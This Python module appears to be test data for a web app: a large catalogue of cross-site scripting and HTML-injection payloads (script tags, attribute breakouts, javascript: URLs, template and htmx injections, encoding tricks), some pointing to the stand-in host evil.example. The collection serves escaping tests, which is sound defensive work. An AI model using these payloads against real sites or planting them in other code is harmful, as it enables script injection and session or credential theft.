"""Texts that would run, or would become markup, where a page failed to escape them.

Each calls `alert(1)`, or would make an element or an attribute that the page did not have. Most are
short enough for the shortest place there is, a username of 40 characters.
"""

from itertools import product

from webapp.texts import trim

TAGS = ("img src=x", "svg", "body", "input autofocus", "video src=x", "audio src=x", "details open")
EVENTS = ("onload", "onerror", "onfocus", "ontoggle")
EXTRA_EVENTS = ("onclick", "onpointerover", "onanimationend", "onbeforetoggle", "onscrollend")

# Where a payload must first leave what it stands in.
WAYS_OUT = ("", '"', "'", '">', "'>", "</a>", "-->", "]]>")

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script/x>alert(1)</script>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<script src=data:,alert(1)></script>",
    "<script type=module>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><svg onload=alert(1)>",
    "</li></ul><svg onload=alert(1)>",
    "</button><svg onload=alert(1)>",
    "</form><form action=//evil.example>",
    "</template><svg onload=alert(1)>",
    "</noscript><svg onload=alert(1)>",
    "</style><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><script>alert(1)</script></math>",
    "<noscript><p title='</noscript><svg onload=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
)
ATTRIBUTES = (
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    '" onclick=alert(1) x="',
    '" onpointerenter=alert(1) x="',
    '" style=position:fixed;inset:0 x="',
    '" style="background:red',
    '" autofocus onfocus="alert(1)',
    "x onfocus=alert(1) autofocus",
    "`onfocus=alert(1) autofocus`",
    '" formaction="//evil.example',
    '" formaction=javascript:alert(1) x="',
    '" href="javascript:alert(1)',
    '" hx-get="/lists" hx-trigger="load',
    '" hx-on:load="alert(1)',
    '" hx-on::after:init=alert(1) x="',
    "' hx-vals='js:{x:alert(1)}",
    '" hx-confirm="js:alert(1)',
    '" data-hx-get="/lists" x="',
    '" accesskey="x" onclick="alert(1)',
    '" name="attributes" id="todos',
    '"/><svg onload=alert(1)>',
    '\\" onfocus=alert(1) autofocus x=\\"',
    "&quot; onfocus=alert(1) autofocus",
    "&#34; onfocus=alert(1) autofocus",
    "&#x22; onfocus=alert(1) autofocus",
    "%22 onfocus=alert(1) autofocus",
    "\u201c onfocus=alert(1) \u201d",
    "\uff02 onfocus=alert(1) autofocus \uff02",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "\u00adjavascript:alert(1)x",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example/x",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href='data:text/html,x'>x</a>",
    "<area href=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<link rel=prefetch href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<svg onload=alert(1)>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<img src=//evil.example/x>",
    "<img srcset=//evil.example/x>",
    "<image href=//evil.example/x>",
    "<svg><use href=//evil.example#x></svg>",
    "<svg><a href=javascript:alert(1)>x</a>",
    "<math href=javascript:alert(1)>x",
    "<style>@import '//evil.example';</style>",
    "<style>*{background:red}</style>",
    "<p style=background:url(//evil.example)>",
)
FRAMEWORKS = (
    "{{7*7}}",
    "{{config}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{%print(7*7)%}",
    "{#x#}",
    "${7*7}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%=7*7%>",
    "js:alert(1)",
    "javascript:alert(1)//",
    "js:{x:alert(1)}",
    "<div hx-get=/lists hx-trigger=load>",
    "<div hx-on:click=alert(1)>",
    "<p hx-vals='js:{x:alert(1)}'>",
    "<hx-partial hx-target=#main>x</hx-partial>",
    "<p id=todos hx-swap-oob=true>x</p>",
    "<p id=status>x</p>",
    "<p id=main>x",
    "<template hx type=partial>",
    "<p x-data=alert(1)>",
    "<p ng-app>{{7*7}}</p>",
    "<p v-html=alert(1)>",
)
BROKEN = (
    "<",
    "<<",
    "<>",
    "</",
    "<!--",
    "--><svg onload=alert(1)>",
    "<!--><svg onload=alert(1)>-->",
    "<![CDATA[<svg onload=alert(1)>]]>",
    "<!DOCTYPE x>",
    "<?xml version='1.0'?>",
    "<?php alert(1) ?>",
    "<xmp><svg onload=alert(1)></xmp>",
    "<plaintext>",
    "<textarea>",
    "<title>",
    "<select><svg onload=alert(1)>",
    "<table><svg onload=alert(1)>",
    "<x y=z>",
    "<x-y>",
    "<svg/onload=alert(1)>",
    "<svg//onload=alert(1)>",
    "<svg onload=alert`1`>",
    "<svg onload=&#97;lert(1)>",
    "<svg onload=alert&lpar;1&rpar;>",
    "<svg><animate onbegin=alert(1)>",
    "<svg><set onbegin=alert(1)>",
    "&lt;svg onload=alert(1)&gt;",
    "&amp;lt;svg onload=alert(1)&amp;gt;",
    "%3Csvg%20onload=alert(1)%3E",
    "\\u003csvg onload=alert(1)\\u003e",
    "\\x3csvg onload=alert(1)\\x3e",
    "\uff1csvg onload=alert(1)\uff1e",
    "\u2039svg onload=alert(1)\u203a",
    "+ADw-svg onload=alert(1)+AD4-",
    "\u0130mg<\u0130MG src onerror=alert(1)>",
    "'\"><svg onload=alert(1)>",
    "'-alert(1)-'",
    '"-alert(1)-"',
    "\\'-alert(1)//",
    ";alert(1)//",
    "*/alert(1)/*",
)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *SCRIPTS,
            *ATTRIBUTES,
            *ADDRESSES,
            *FRAMEWORKS,
            *BROKEN,
            *(f"<{tag} {event}=alert(1)>" for tag, event in product(TAGS, EVENTS)),
            *(f"<b {event}=alert(1)>x" for event in EXTRA_EVENTS),
            *(f"{out}<{tag} onload=alert(1)>" for out in WAYS_OUT for tag in ("svg", "style")),
            *(f"{out}<img src=x onerror=alert(1)>" for out in WAYS_OUT),
            *(f"{out} {event}=alert(1) " + "x" for out in WAYS_OUT for event in EVENTS[:2]),
        ]
    )
)


def on_one_line(longest: int) -> list[str]:
    """Return the payloads that fit into a field of one line, as they are stored there."""
    stored = (trim(payload) for payload in PAYLOADS if "\n" not in payload)
    return list(dict.fromkeys(payload for payload in stored if len(payload) <= longest))
